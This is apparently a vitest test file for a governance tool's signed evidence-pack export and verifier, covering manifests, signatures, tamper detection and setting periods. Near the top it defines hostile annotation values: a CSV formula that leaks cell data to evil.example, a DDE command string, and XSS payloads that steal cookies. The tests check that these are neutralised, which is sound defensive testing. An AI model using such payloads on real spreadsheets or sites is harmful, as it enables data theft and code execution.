/**
 * `govtrail export evidence-pack` and `govtrail verify-pack` over a real database: the manifest
 * binds every file, verify-pack catches an edited, removed or added file and a wrong signature,
 * hostile annotations are harmless in every CSV and in the report, setting periods agree with
 * settings_as_of at each boundary, and runs that stop for a day leave a flagged gap.
 */
import { createHash, generateKeyPairSync, type KeyObject } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'kysely';
import { list as listTar } from 'tar';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { runCli } from '../../src/cli.js';
import { parseBaseline } from '../../src/core/conformance/baseline.js';
import { DEFAULT_RANKS } from '../../src/core/diff.js';
import { EVIDENCE_HEADER, writeEvidenceCsv } from '../../src/outputs/evidence/evidence.js';
import { PACK_FILES } from '../../src/outputs/pack/files.js';
import { type Manifest, serialiseManifest } from '../../src/outputs/pack/manifest.js';
import { type EvidencePackResult, writeEvidencePack } from '../../src/outputs/pack/pack.js';
import { verifyPack } from '../../src/outputs/pack/verify-pack.js';
import { loadReportData } from '../../src/outputs/report/data.js';
import { renderReport } from '../../src/outputs/report/html.js';
import { readControlPeriods } from '../../src/store/read/control-periods.js';
import { recordAlertEvents } from '../../src/store/write/alert-events.js';
import { judgeTenant } from '../../src/sync/conformance.js';
import { parseCsv } from '../helpers/csv.js';
import { NEEDS_SERVER, onServer } from '../helpers/database.js';
import { createHarness, type Harness } from '../helpers/harness.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open ticket")';
const SCRIPT = '<script>alert(document.cookie)</script>';
const CMD = `=cmd|' /C calc'!A0`;
const MIN = 60_000;

let h: Harness;
let root: string;
let signer: { privateKey: KeyObject; publicKey: KeyObject };
let pack: EvidencePackResult;
let from: Date;
let to: Date;
let handledAlert: number;

function tmp(name: string): string {
  return path.join(root, name);
}

/** A copy of the signed pack to damage. */
function copyOfPack(name: string): string {
  const dir = tmp(name);
  cpSync(pack.dir, dir, { recursive: true });
  return dir;
}

/** Every file of a pack directory by its manifest name (one folder level: conformance/…). */
function packFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .flatMap((e) =>
      e.isDirectory() ? readdirSync(path.join(dir, e.name)).map((f) => `${e.name}/${f}`) : [e.name],
    )
    .sort();
}

/** The baseline the pack's tenant is judged by: tool approval with a ticketed exception to it, and verbosity. */
const BASELINE = `baseline: pack-test
title: Pack test policy
controls:
  - id: AIG-01
    title: Tool calls need approval
    field: require_tool_approval
    expect: { equals: true }
    severity: high
    frameworks: { NIST-SP-800-53r5: [AC-6], SOC2-TSC-2017: [CC6.1] }
  - id: AIG-02
    title: Audit verbosity is at least STANDARD
    field: audit_verbosity
    expect: { at_least: AUDIT_VERBOSITY_STANDARD }
exceptions:
  - control: AIG-01
    tenants: [acme]
    value: false
    rationale: Pilot without approvals
    approved_by: ciso@acme.example
    approved_at: 2025-01-01T00:00:00Z
    ticket: SEC-77
    expires: 2030-01-01T00:00:00Z
`;

function csv(dir: string, name: string): string[][] {
  return parseCsv(readFileSync(path.join(dir, name), 'utf8'));
}

interface AsOfRow {
  entry_id: string;
  is_deleted: boolean;
  row: Record<string, unknown>;
  secs: Record<string, unknown>;
}
const asOfCache = new Map<string, AsOfRow | undefined>();

/** govtrail.settings_as_of('acme', at), `at` as exact text (nanoseconds kept); undefined before the first snapshot. */
async function asOf(at: string, justBefore = false): Promise<AsOfRow | undefined> {
  const key = `${at}|${justBefore}`;
  if (!asOfCache.has(key)) {
    const res = await sql<AsOfRow>`
      select t.entry_id, t.is_deleted, to_jsonb(t) as row,
             jsonb_build_object('discovery_interval', extract(epoch from t.discovery_interval),
               'inactivity_close_after', extract(epoch from t.inactivity_close_after),
               'inactivity_hide_after', extract(epoch from t.inactivity_hide_after),
               'retention_delete_after', extract(epoch from t.retention_delete_after)) as secs
      from govtrail.settings_as_of('acme',
        ${at}::timestamptz - ${justBefore ? '1 microsecond' : '0'}::interval) t`.execute(h.database.db);
    asOfCache.set(key, res.rows[0]);
  }
  return asOfCache.get(key);
}

/** A setting's value at `at`, in the CSV's notation: '' unset, text as is, else JSON. */
async function valueAt(
  setting: string,
  at: string,
  justBefore = false,
): Promise<{ deleted: boolean; value: string; entryId: string } | undefined> {
  const r = await asOf(at, justBefore);
  if (r === undefined) return undefined;
  if (r.is_deleted) return { deleted: true, value: '', entryId: r.entry_id };
  let v: unknown;
  if (setting in r.secs) v = r.secs[setting] === null ? null : `${Number(r.secs[setting])}s`;
  else if (setting.startsWith('extra_fields.'))
    v = (r.row['extra_fields'] as Record<string, unknown> | null)?.[setting.slice(13)] ?? null;
  else v = r.row[setting];
  return {
    deleted: false,
    value: v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v),
    entryId: r.entry_id,
  };
}

/** A CSV cell without the formula guard's quote. */
/** A `value` cell as the JSON value it shows: lists and booleans in JSON, names and durations bare, unset empty. */
function csvValue(cell: string): unknown {
  if (cell === '') return null; // unset
  return /^[[{]|^(true|false|null)$|^-?\d/.test(cell) && !/^\d+(\.\d+)?s$/.test(cell)
    ? JSON.parse(cell)
    : cell;
}

function unprefix(s: string): string {
  return /^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s;
}

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), 'govtrail-pack-'));
  signer = generateKeyPairSync('ed25519');
  h = await createHarness({ entries: 40, seed: 23, start: '2025-03-03T09:00:00Z' });
  expect((await h.sync()).status).toBe('succeeded');
  // Hostile annotations an attacker with write access to the tenant could plant.
  h.sandbox.history.appendEntry({
    annotations: [
      {
        kind: 'ANNOTATION_KIND_TICKET',
        rawValue: FORMULA,
        displayValue: FORMULA,
        displayUrl: 'javascript:alert(1)',
      },
      { kind: 'ANNOTATION_KIND_REASON', rawValue: SCRIPT },
    ],
    set: { discoveryInterval: '7001s', requireToolApproval: false },
  });
  h.sandbox.history.appendEntry({
    annotations: [
      { kind: 'ANNOTATION_KIND_REASON', rawValue: CMD },
      { kind: 'ANNOTATION_KIND_REASON', rawValue: SCRIPT },
    ],
    set: { discoveryInterval: '7002s' },
  });
  h.sandbox.history.appendEntry({
    annotations: [
      {
        kind: 'ANNOTATION_KIND_TICKET',
        rawValue: SCRIPT,
        displayValue: `<img src=x onerror=alert(1)>${SCRIPT}`,
        displayUrl: `https://t.example/"><script>alert(1)</script>`,
      },
    ],
    set: { discoveryInterval: '7003s', requireToolApproval: true },
  });
  expect((await h.sync()).status).toBe('succeeded');

  // Judged in a transaction, as a run judges (the judge reads through a cursor).
  await h.database.db
    .transaction()
    .execute((trx) =>
      judgeTenant(trx, 'acme', parseBaseline(BASELINE, 'pack-test.yaml', DEFAULT_RANKS), null),
    );

  // The period starts inside the history, so settings in force at its start were set before it.
  const { rows } = await sql<{ at: Date; last: Date }>`
    select (select created_at from govtrail.history_entry order by created_at offset 12 limit 1) as at,
           (select max(created_at) from govtrail.history_entry) as last`.execute(h.database.db);
  const bounds = rows[0];
  if (bounds === undefined) throw new Error('no entries stored');
  from = new Date(bounds.at.getTime() + 1000);
  to = new Date(bounds.last.getTime() + 86_400_000);
  // One alert of the period handled: acknowledged, then resolved with a note.
  const { rows: handled } = await sql<{ alert_id: string }>`
    select l.alert_id::text from govtrail.alert_log l
    where coalesce(l.changed_at, l.created_at) >= ${from} and coalesce(l.changed_at, l.created_at) < ${to}
    order by l.alert_id limit 1`.execute(h.database.db);
  handledAlert = Number(handled[0]?.alert_id);
  await recordAlertEvents(h.database.db, [handledAlert], { kind: 'acknowledged', actor: 'alice' });
  await recordAlertEvents(h.database.db, [handledAlert], {
    kind: 'resolved',
    actor: 'bob',
    note: 'reverted, SEC-9',
  });
  pack = await writeEvidencePack(h.database, {
    tenantId: 'acme',
    from,
    to,
    out: tmp('pack'),
    now: new Date(),
    interval: { ms: 15 * MIN, source: 'test' },
    signingKey: signer.privateKey,
    version: 'test',
    pageSize: 7,
  });
});

afterAll(async () => {
  await h?.close();
  if (root) rmSync(root, { recursive: true, force: true });
});

afterEach(() => {
  vi.unstubAllEnvs();
  vi.restoreAllMocks();
});

describe('the pack', () => {
  it('holds exactly the documented files, each with the sha256, size and row count of its manifest', () => {
    const manifest = JSON.parse(readFileSync(path.join(pack.dir, 'manifest.json'), 'utf8')) as Manifest;
    expect(packFiles(pack.dir)).toEqual(PACK_FILES.map((f) => f.name).sort());
    expect(manifest.files.map((f) => f.name)).toEqual(
      PACK_FILES.map((f) => f.name).filter((n) => n !== 'manifest.json' && n !== 'manifest.jws'),
    );
    for (const f of manifest.files) {
      const bytes = readFileSync(path.join(pack.dir, f.name));
      expect(createHash('sha256').update(bytes).digest('hex'), f.name).toBe(f.sha256);
      expect(bytes.length).toBe(f.bytes);
      if (f.name.endsWith('.csv')) expect(parseCsv(bytes.toString('utf8')).length - 1, f.name).toBe(f.rows);
    }
    // SHA256SUMS says the same, in sha256sum's format.
    const sums = readFileSync(path.join(pack.dir, 'SHA256SUMS'), 'utf8');
    for (const f of manifest.files.filter((x) => x.name !== 'SHA256SUMS')) {
      expect(sums).toContain(`${f.sha256}  ${f.name}\n`);
    }
    expect(manifest).toMatchObject({ tenant: 'acme', from: from.toISOString(), to: to.toISOString() });
    expect(existsSync(`${pack.dir}.partial`)).toBe(false);
  });

  it('puts the full population in changes.csv and the same rows as the evidence export', async () => {
    const rows = csv(pack.dir, 'changes.csv');
    expect(rows[0]).toEqual([...EVIDENCE_HEADER]);
    const { rows: n } = await sql<{ n: number }>`
      select count(*)::int as n from govtrail.change_log
      where tenant_id = 'acme' and changed_at >= ${from} and changed_at < ${to}`.execute(h.database.db);
    expect(rows.length - 1).toBe(n[0]?.n);
    expect(pack.summary.changes).toBe(n[0]?.n);
  });

  it('writes changes.csv byte for byte as `govtrail export evidence` writes the period', async () => {
    const out = tmp('evidence.csv');
    await writeEvidenceCsv(h.database.db, { tenantId: 'acme', from, to, out });
    expect(readFileSync(path.join(pack.dir, 'changes.csv')).equals(readFileSync(out))).toBe(true);
  });

  it('draws the report’s posture timeline as `govtrail report` does for the period', async () => {
    const posture = (html: string) => /<h2>Posture timeline<\/h2>[\s\S]*?<\/section>/.exec(html)?.[0];
    const report = renderReport(
      await loadReportData(h.database.db, { tenantId: 'acme', from, to, now: new Date() }),
    );
    const packed = readFileSync(path.join(pack.dir, 'report.html'), 'utf8');
    expect(posture(packed)).toBeDefined();
    expect(posture(packed)).toBe(posture(report));
  });

  it('conformance/: the baseline judged by, its sha256, the summary, every fail and excepted period, the exceptions', async () => {
    const dir = path.join(pack.dir, 'conformance');
    const text = readFileSync(path.join(dir, 'baseline.yaml'), 'utf8');
    expect(text).toBe(BASELINE);
    expect(readFileSync(path.join(dir, 'baseline.sha256'), 'utf8')).toBe(
      `${createHash('sha256').update(text).digest('hex')}  baseline.yaml\n`,
    );
    const summary = csv(pack.dir, 'conformance/summary.csv');
    expect(summary.slice(1).map((r) => r[1])).toEqual(['AIG-01', 'AIG-02', '(all controls)']);
    // Every fail, deleted and excepted period that overlaps the period, with its opener.
    const stored = (await readControlPeriods(h.database.db, 'acme')).filter(
      (p) =>
        p.status !== 'pass' &&
        p.fromKey < to.toISOString().replace('Z', '000000Z') &&
        (p.toKey === null || p.toKey > from.toISOString().replace('Z', '000000Z')),
    );
    const periods = csv(pack.dir, 'conformance/periods.csv');
    expect(periods.length - 1).toBe(stored.length);
    expect(stored.length).toBeGreaterThan(0);
    const col = (n: string) => (periods[0] as string[]).indexOf(n);
    for (const r of periods.slice(1)) {
      const p = stored.find(
        (x) => x.controlId === r[col('control_id')] && (x.fromKey >= r[col('from')]! || true),
      );
      expect(p, r.join(',')).toBeDefined();
      if (r[col('status')] !== 'excepted' && r[col('opened_by')] === 'entry')
        expect(r[col('opened_by_entry_id')]).not.toBe('');
    }
    const exceptions = csv(pack.dir, 'conformance/exceptions.csv');
    expect(exceptions.slice(1).map((r) => [r[1], r[3], r[7]])).toEqual([
      ['AIG-01', 'Pilot without approvals', 'SEC-77'],
    ]);
  });

  it('answers the auditor in plain words, in conformance/README.txt and README.txt', () => {
    for (const file of ['README.txt', 'conformance/README.txt']) {
      const readme = readFileSync(path.join(pack.dir, file), 'utf8');
      expect(readme, file).toContain('Does tenant acme meet the declared policy now?');
      expect(readme, file).toContain('Did it meet it at every moment of the period?');
      expect(readme, file).toContain('Where not: who, which ticket, and was it accepted?');
    }
    expect(readFileSync(path.join(pack.dir, 'conformance/README.txt'), 'utf8')).toContain('pack-test');
  });

  it('archives the directory as DIR.tar.gz, entries under DIR/', async () => {
    const names: string[] = [];
    await listTar({ file: pack.archive, onReadEntry: (e) => names.push(e.path) });
    expect(names.sort()).toEqual(PACK_FILES.map((f) => `pack/${f.name}`).sort());
    expect(createHash('sha256').update(readFileSync(pack.archive)).digest('hex')).toBe(pack.archiveSha256);
  });

  it('neutralises hostile annotations in every CSV and escapes them in the report', () => {
    const seen = new Set<string>();
    for (const name of packFiles(pack.dir).filter((n) => n.endsWith('.csv'))) {
      for (const row of csv(pack.dir, name).slice(1)) {
        for (const cell of row) {
          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
          for (const part of cell.split('; ')) seen.add(`${name}|${part}`);
        }
      }
    }
    // The values are there, as text: prefixed with ' when a spreadsheet would run them.
    expect(seen).toContain(`changes.csv|'${FORMULA}`);
    expect(seen).toContain(`changes.csv|${SCRIPT}`);
    expect(seen).toContain(`changes-without-ticket.csv|'${CMD}`);
    expect(seen).toContain(`setting-periods.csv|'${FORMULA}`);

    const html = readFileSync(path.join(pack.dir, 'report.html'), 'utf8');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain('javascript:');
    expect(html).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/');
  });

  it("carries each alert's handling in alerts.csv: state, who acknowledged and resolved it, when, the note", () => {
    const [header, ...rows] = csv(pack.dir, 'alerts.csv');
    const col = (name: string) => (header as string[]).indexOf(name);
    const row = rows.find((r) => r[col('alert_id')] === String(handledAlert));
    expect(row?.[col('state')]).toBe('resolved');
    expect(row?.[col('acknowledged_by')]).toBe('alice');
    expect(row?.[col('resolved_by')]).toBe('bob');
    expect(row?.[col('resolution_note')]).toBe('reverted, SEC-9');
    expect(row?.[col('resolved_at')]).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(row?.[col('handling')]).toMatch(/Z acknowledged by alice; .*Z resolved by bob: reverted, SEC-9$/);
    const others = rows.filter((r) => r[col('alert_id')] !== String(handledAlert));
    expect(others.every((r) => r[col('state')] === 'open' && r[col('handling')] === '')).toBe(true);
  });

  it('gives each setting’s periods, contiguous, agreeing with settings_as_of at each boundary', async () => {
    const [header, ...rows] = csv(pack.dir, 'setting-periods.csv');
    const col = (name: string) => (header as string[]).indexOf(name);
    expect(rows.length).toBeGreaterThan(12);
    const bySetting = new Map<string, string[][]>();
    for (const r of rows) {
      const s = r[col('setting')] as string;
      bySetting.set(s, [...(bySetting.get(s) ?? []), r]);
    }
    expect(bySetting.get('require_tool_approval')?.length).toBeGreaterThan(1);
    for (const [setting, periods] of bySetting) {
      expect(periods[0]?.[col('period_start')]).toBe(from.toISOString());
      expect(periods[0]?.[col('began_before_period')]).toBe('true');
      expect(periods.at(-1)?.[col('period_end')]).toBe(to.toISOString());
      for (const [i, p] of periods.entries()) {
        const start = p[col('period_start')] as string;
        const end = p[col('period_end')] as string;
        const deleted = p[col('deleted')] === 'true';
        const value = unprefix(p[col('value')] as string);
        const atStart = await valueAt(setting, start);
        expect([setting, start, atStart?.deleted, atStart?.value]).toEqual([setting, start, deleted, value]);
        if (p[col('began_before_period')] === 'false')
          expect(atStart?.entryId).toBe(p[col('set_by_entry_id')]);
        const next = periods[i + 1];
        if (next === undefined) continue;
        expect(next[col('period_start')]).toBe(end);
        const atEnd = await valueAt(setting, end);
        expect([atEnd?.deleted, atEnd?.value]).not.toEqual([deleted, value]);
      }
    }
  });

  it('agrees period for period with the dashboard’s setting_periods() for every setting', async () => {
    const [header, ...rows] = csv(pack.dir, 'setting-periods.csv');
    const col = (name: string) => (header as string[]).indexOf(name);
    // The twelve known settings; setting_periods() has no periods for extra_fields.* (unknown fields).
    const settings = [...new Set(rows.map((r) => r[col('setting')] as string))].filter(
      (s) => !s.includes('.'),
    );
    expect(settings).toHaveLength(12);
    for (const setting of settings) {
      const fromCsv = rows
        .filter((r) => r[col('setting')] === setting)
        .map((r) => [
          r[col('set_by_entry_id')],
          r[col('deleted')] === 'true',
          r[col('deleted')] === 'true' ? null : csvValue(unprefix(r[col('value')] as string)),
        ]);
      const { rows: fromSql } = await sql<{ entry_id: string; is_deleted: boolean; value: unknown }>`
        select entry_id, is_deleted, value
        from govtrail.setting_periods('acme', ${setting}, ${from}::timestamptz, ${to}::timestamptz)
        order by valid_from, entry_id`.execute(h.database.db);
      expect(
        fromSql.map((r) => [r.entry_id, r.is_deleted, r.is_deleted ? null : r.value]),
        setting,
      ).toEqual(fromCsv);
    }
  });

  it('names, for a value in force at the start, the earlier entry that set it', async () => {
    const [header, ...rows] = csv(pack.dir, 'setting-periods.csv');
    const col = (name: string) => (header as string[]).indexOf(name);
    const began = rows.filter((x) => x[col('began_before_period')] === 'true');
    expect(began.length).toBeGreaterThan(10);
    const entries = new Set<string>();
    for (const r of began) {
      const setting = r[col('setting')] as string;
      const setAt = r[col('set_at')] as string;
      const value = unprefix(r[col('value')] as string);
      entries.add(r[col('set_by_entry_id')] as string);
      expect(Date.parse(setAt)).toBeLessThan(from.getTime());
      // In force from that entry on, and not just before it: that entry set it.
      const at = await valueAt(setting, setAt);
      expect([at?.value, at?.entryId]).toEqual([value, r[col('set_by_entry_id')]]);
      const before = await valueAt(setting, setAt, true);
      if (before !== undefined) expect([before.deleted, before.value], setting).not.toEqual([false, value]);
    }
    // The values in force at the start were set by different entries, not all by the one in force then.
    expect(entries.size).toBeGreaterThan(1);
  });

  it('writes the settings at the start and at the end of the period', async () => {
    const start = JSON.parse(readFileSync(path.join(pack.dir, 'settings-at-start.json'), 'utf8'));
    const end = JSON.parse(readFileSync(path.join(pack.dir, 'settings-at-end.json'), 'utf8'));
    const { rows } = await sql<{ a: string; b: string }>`
      select (select entry_id from govtrail.settings_as_of('acme', ${from}::timestamptz)) as a,
             (select entry_id from govtrail.settings_as_of('acme', ${to}::timestamptz)) as b`.execute(
      h.database.db,
    );
    expect(start.inForce.entryId).toBe(rows[0]?.a);
    expect(end.inForce.entryId).toBe(rows[0]?.b);
    expect(end.settings.require_tool_approval).toBe(true);
    expect(end.settings.discovery_interval).toBe('7003s');
  });

  it('records the integrity checks', () => {
    const integrity = JSON.parse(readFileSync(path.join(pack.dir, 'integrity.json'), 'utf8'));
    expect(integrity.verify).toMatchObject({ ok: true, findings: [] });
    expect(integrity.verify.rowsVerified).toBe(43);
    expect(integrity.discrepancies).toMatchObject({ recordedForTenant: 0, list: [] });
    expect(integrity.coverage).toMatchObject({ intervalSeconds: 900 });
  });

  it('says in README.txt that the period was backfilled and lists what the rules find there (issue 20, item 16)', () => {
    const readme = readFileSync(path.join(pack.dir, 'README.txt'), 'utf8');
    expect(readme).toContain('Backfilled history\n------------------');
    expect(readme).toMatch(
      /\d+ entries of this period were stored by a backfill \(the first run of the tenant: run \d+\)/,
    );
    const found = readme.split('\n').filter((l) => l.endsWith('[found by backfill]'));
    expect(found.length).toBeGreaterThan(0);
    for (const line of found)
      expect(line).toMatch(
        /^ {2}\S+ {2}(LOW|MEDIUM|HIGH|CRITICAL) +AIGOV-\d{3} {2}.+ \(entry \S{27}\) \[found by backfill\]$/,
      );
    // The report of the pack lists the same findings.
    const report = readFileSync(path.join(pack.dir, 'report.html'), 'utf8');
    expect(report.match(/<td>found by backfill<\/td>/g)?.length).toBe(found.length);
  });
});

describe('verify-pack', () => {
  const trusted = () => ({ key: signer.publicKey, source: 'test key' });

  it('passes an untouched signed pack checked with the signer’s public key', async () => {
    const r = await verifyPack(pack.dir, { trustedKey: trusted() });
    expect(r.problems).toEqual([]);
    expect(r.ok).toBe(true);
    expect(r.signature.status).toBe('valid');
  });

  it('fails on a file edited by one byte, naming it', async () => {
    const dir = copyOfPack('edited');
    const file = path.join(dir, 'alerts.csv');
    const bytes = readFileSync(file);
    bytes[bytes.length - 3] = (bytes[bytes.length - 3] as number) ^ 1;
    writeFileSync(file, bytes);
    const r = await verifyPack(dir, { trustedKey: trusted() });
    expect(r.ok).toBe(false);
    expect(r.problems.map((p) => [p.kind, p.file])).toEqual([['modified', 'alerts.csv']]);
    expect(r.signature.status).toBe('valid');
  });

  it('fails on a removed file and on an added one', async () => {
    const removed = copyOfPack('removed');
    rmSync(path.join(removed, 'runs.csv'));
    expect(
      (await verifyPack(removed, { trustedKey: trusted() })).problems.map((p) => [p.kind, p.file]),
    ).toEqual([['missing', 'runs.csv']]);
    // A file the manifest does not list could pass for evidence (an "approvals.csv"): refused.
    const added = copyOfPack('added');
    writeFileSync(path.join(added, 'approvals.csv'), 'ticket,approved\r\nSEC-1,yes\r\n');
    mkdirSync(path.join(added, 'extra'));
    writeFileSync(path.join(added, 'conformance', 'waivers.csv'), 'control,waived\r\nAIG-01,yes\r\n');
    const r = await verifyPack(added, { trustedKey: trusted() });
    expect(r.problems.map((p) => [p.kind, p.file])).toEqual([
      ['unexpected', 'approvals.csv'],
      ['unexpected', 'conformance/waivers.csv'],
      ['unexpected', 'extra'],
    ]);
  });

  it('fails on a wrong signature: another key, a damaged signature, a manifest rewritten to match an edit', async () => {
    const other = generateKeyPairSync('ed25519').publicKey;
    const wrongKey = await verifyPack(pack.dir, { trustedKey: { key: other, source: 'other key' } });
    expect(wrongKey.ok).toBe(false);
    expect(wrongKey.problems.map((p) => p.kind)).toEqual(['signature_invalid']);
    expect(wrongKey.problems[0]?.detail).toMatch(/not by the trusted key/);

    const damaged = copyOfPack('damaged');
    const jws = readFileSync(path.join(damaged, 'manifest.jws'), 'utf8').trim();
    const last = jws.at(-2) === 'A' ? 'B' : 'A';
    writeFileSync(path.join(damaged, 'manifest.jws'), `${jws.slice(0, -2)}${last}${jws.slice(-1)}\n`);
    expect((await verifyPack(damaged, { trustedKey: trusted() })).problems.map((p) => p.kind)).toEqual([
      'signature_invalid',
    ]);

    // The attacker edits a file and fixes every hash: only the signature gives them away.
    const forged = copyOfPack('forged');
    const changes = path.join(forged, 'changes.csv');
    writeFileSync(changes, readFileSync(changes, 'utf8').replace('SEC-', 'SEX-'));
    const manifest = JSON.parse(readFileSync(path.join(forged, 'manifest.json'), 'utf8')) as Manifest;
    const bytes = readFileSync(changes);
    const files = manifest.files.map((f) =>
      f.name === 'changes.csv'
        ? { ...f, sha256: createHash('sha256').update(bytes).digest('hex'), bytes: bytes.length }
        : f,
    );
    writeFileSync(path.join(forged, 'manifest.json'), serialiseManifest({ ...manifest, files }));
    const r = await verifyPack(forged, { trustedKey: trusted() });
    expect(r.problems.map((p) => [p.kind, p.file])).toEqual([['signature_invalid', 'manifest.jws']]);
  });

  it('does not call a signed pack verified without a trusted key, unless asked for hashes only', async () => {
    const r = await verifyPack(pack.dir);
    expect(r.ok).toBe(false);
    expect(r.signature.status).toBe('unchecked');
    expect((await verifyPack(pack.dir, { hashesOnly: true })).ok).toBe(true);
  });

  it('exits 0 on the pack and 1 after one byte changed, from the command line', async () => {
    const keyFile = tmp('signer.pub.pem');
    writeFileSync(keyFile, signer.publicKey.export({ type: 'spki', format: 'pem' }));
    const ok = await cli('verify-pack', pack.dir, '--public-key', keyFile);
    expect(ok.code).toBe(0);
    expect(ok.out).toContain('pack verified');
    const dir = copyOfPack('cli-edited');
    const file = path.join(dir, 'setting-periods.csv');
    const bytes = readFileSync(file);
    bytes[100] = (bytes[100] as number) ^ 1;
    writeFileSync(file, bytes);
    const bad = await cli('verify-pack', dir, '--public-key', keyFile);
    expect(bad.code).toBe(1);
    expect(bad.out).toMatch(/MODIFIED setting-periods\.csv/);
    const nowhere = await cli('verify-pack', tmp('nowhere'));
    expect([nowhere.code, nowhere.err]).toEqual([2, expect.stringMatching(/is not a directory/)]);
  });
});

describe('coverage', () => {
  it('flags a gap when runs stop for a day', async () => {
    // A worker on a 15-minute schedule: a day of runs, a day of silence, a day of runs.
    const start = Date.parse('2030-01-01T00:00:00Z');
    const times: Date[] = [new Date(start - 15 * MIN)];
    for (let t = start; t < start + 86_400_000; t += 15 * MIN) times.push(new Date(t));
    for (let t = start + 2 * 86_400_000; t < start + 3 * 86_400_000; t += 15 * MIN) times.push(new Date(t));
    await sql`
      insert into govtrail.sync_run (tenant_id, trigger, kind, status, started_at, finished_at)
      select 'acme', 'schedule', 'sync', 'succeeded', s, s + interval '20 seconds'
      from unnest(${times}::timestamptz[]) as s`.execute(h.database.db);
    const out = tmp('coverage');
    const result = await writeEvidencePack(h.database, {
      tenantId: 'acme',
      from: new Date(start),
      to: new Date(start + 3 * 86_400_000),
      out,
      now: new Date(start + 3 * 86_400_000),
      interval: { ms: 15 * MIN, source: 'test' },
      version: 'test',
    });
    const [header, ...rows] = csv(out, 'runs.csv');
    const col = (name: string) => (header as string[]).indexOf(name);
    const gaps = rows.filter((r) => r[col('record')] === 'gap');
    expect(gaps.map((g) => [g[col('started_at')], g[col('finished_at')]])).toEqual([
      ['2030-01-01T23:45:20.000Z', '2030-01-03T00:00:20.000Z'],
    ]);
    // The run before the period only sets where the first gap would start.
    expect(rows.filter((r) => r[col('record')] === 'run')).toHaveLength(times.length - 1);
    expect(result.summary.coverage).toMatchObject({ gaps: 1, succeeded: times.length - 1 });
    expect(readFileSync(path.join(out, 'README.txt'), 'utf8')).toMatch(/1 gap without a successful run/);
    // Unsigned: no signature file, and verify-pack says so without failing.
    expect(existsSync(path.join(out, 'manifest.jws'))).toBe(false);
    expect((await verifyPack(out)).signature.status).toBe('unsigned');
  });
});

describe('govtrail export evidence-pack', () => {
  it('explains each file in --help', async () => {
    const r = await cli('export', 'evidence-pack', '--help');
    expect(r.code).toBe(0);
    for (const f of PACK_FILES) expect(r.out).toContain(f.name);
    expect(r.out).toMatch(/Exit codes: 0/);
  });

  it('refuses a directory that is not empty (exit 2), and a --to before --from', async () => {
    const dir = tmp('busy');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'keep.txt'), 'mine');
    const busy = await cli(
      'export',
      'evidence-pack',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
      '--out',
      dir,
    );
    expect(busy.code).toBe(2);
    expect(busy.err).toMatch(/exists and is not empty/);
    expect(readdirSync(dir)).toEqual(['keep.txt']);
    const order = await cli(
      'export',
      'evidence-pack',
      '--from',
      '2025-02-01',
      '--to',
      '2025-01-01',
      '--out',
      tmp('x'),
    );
    expect(order.code).toBe(2);
  });

  it('leaves nothing under the final name when the export fails', async () => {
    const out = tmp('failed');
    await expect(
      writeEvidencePack(h.database, {
        tenantId: 'acme',
        from,
        to,
        out,
        now: new Date(),
        interval: { ms: 15 * MIN, source: 'test' },
        version: 'test',
        onProgress: (p) => {
          if (p.step === 'report.html') throw new Error('disk full');
        },
      }),
    ).rejects.toThrow('disk full');
    expect(existsSync(out)).toBe(false);
    expect(existsSync(`${out}.partial`)).toBe(false);
    expect(existsSync(`${out}.tar.gz`)).toBe(false);
  });

  it.skipIf(!onServer)(
    `writes a pack from the command line, into an empty directory (${NEEDS_SERVER})`,
    async () => {
      vi.stubEnv('DATABASE_URL', h.testDb.url as string);
      vi.stubEnv('LOG_LEVEL', 'silent');
      const out = tmp('from-cli');
      mkdirSync(out);
      const r = await cli(
        'export',
        'evidence-pack',
        '--from',
        from.toISOString(),
        '--to',
        to.toISOString(),
        '--out',
        out,
        '--interval',
        '1h',
      );
      expect(r.code).toBe(0);
      expect(r.out).toMatch(/changes\.csv\s+\d+/);
      expect(r.out).toContain('unsigned');
      expect(existsSync(`${out}.tar.gz`)).toBe(true);
      expect((await cli('verify-pack', out)).code).toBe(0);
    },
  );
});

/** Runs the CLI, capturing stdout and stderr. */
async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    out.push(String(chunk));
    return true;
  });
  const spyErr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
    err.push(String(chunk));
    return true;
  });
  try {
    const code = await runCli(['node', 'govtrail', ...args]);
    return { code, out: out.join(''), err: err.join('') };
  } finally {
    spy.mockRestore();
    spyErr.mockRestore();
  }
}
